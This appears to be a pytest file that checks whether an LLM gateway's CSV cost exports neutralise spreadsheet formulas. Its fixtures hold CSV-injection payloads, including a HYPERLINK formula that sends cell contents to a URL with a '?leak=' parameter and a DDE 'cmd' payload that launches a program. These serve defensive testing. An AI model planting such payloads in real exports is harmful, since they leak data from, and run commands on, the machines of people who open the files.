"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP's
CSV injection): run ids, model names, persona, key and team names that start
with =, +, -, @, a tab or a carriage return leave with a single quote before
them, in `/costs?format=csv` and in the dashboard's export."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from accounts.models import ApiKey, Team
from personas.models import Persona, RouteStep
from tests.dashboard.conftest import FormSession

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEAM = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'
KEY_NAMES = ("+cmd|' /C calc'!A0", "\tkey with a leading tab")
PERSONA = "-persona"
RUN_HEADER, RUN_METADATA = "=1+2", "@SUM(1+1)"
MODEL = "-2+3"
HI = [{"role": "user", "content": "hi"}]


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


@pytest.fixture
def spent(live, world):
    """Requests whose ledger rows carry formula-looking values, made through the API."""
    team = Team.objects.create(name=TEAM)
    _, chat_key = ApiKey.issue(team=team, name=KEY_NAMES[0], scopes=["chat", "direct"])
    _, tab_key = ApiKey.issue(team=team, name=KEY_NAMES[1])
    persona = Persona.objects.create(slug=PERSONA)
    RouteStep.objects.create(persona=persona, provider=world.demo, model="demo")
    answers = [
        httpx.post(live.url + "/v1/chat/completions", json={"model": PERSONA, "messages": HI},
                   headers={**bearer(chat_key), "X-EP-Run-Id": RUN_HEADER}, timeout=30),
        httpx.post(live.url + "/api/v1/chat", json={"persona": "architect", "messages": HI,
                                                    "metadata": {"run_id": RUN_METADATA, "step": "+step"}},
                   headers=bearer(tab_key), timeout=30),
        httpx.post(live.url + "/v1/chat/completions", json={"model": f"demo/{MODEL}", "messages": HI},
                   headers=bearer(chat_key), timeout=30),
    ]
    assert [a.status_code for a in answers] == [200, 200, 200], [a.text for a in answers]
    return team


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    risky = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not risky, risky


def test_costs_csv_quotes_every_formula_looking_cell(live, world, spent):
    expected = {"team": [TEAM], "key": list(KEY_NAMES), "persona": [PERSONA], "run": [RUN_HEADER, RUN_METADATA],
                "model": [MODEL]}
    for group_by, values in expected.items():
        response = httpx.get(live.url + "/costs", params={"group_by": group_by, "format": "csv"},
                             headers=bearer(world.admin_key), timeout=30)
        assert response.status_code == 200, response.text
        rows = cells(response.text)
        assert_no_formula(rows)
        first_column = {row[0] for row in rows[1:]}
        assert {"'" + value for value in values} <= first_column, (group_by, first_column)
    # JSON is data, not a spreadsheet: the values stay as they are there.
    body = httpx.get(live.url + "/costs", params={"group_by": "run"}, headers=bearer(world.admin_key)).json()
    assert {RUN_HEADER, RUN_METADATA} <= {g["group"] for g in body["groups"]}


def test_the_dashboards_csv_export_quotes_them_too(live, world, people, spent):
    session = FormSession(live)
    assert session.log_in("olive").status_code == 302
    response = session.get("/dashboard/costs/?format=csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = cells(response.text)
    assert_no_formula(rows)
    header, *data = rows
    column = {name: {row[header.index(name)] for row in data} for name in ("team", "persona", "model", "run_id",
                                                                           "step")}
    assert "'" + TEAM in column["team"] and "'" + PERSONA in column["persona"]
    assert "'" + MODEL in column["model"] and {"'" + RUN_HEADER, "'" + RUN_METADATA} <= column["run_id"]
    assert "'+step" in column["step"]
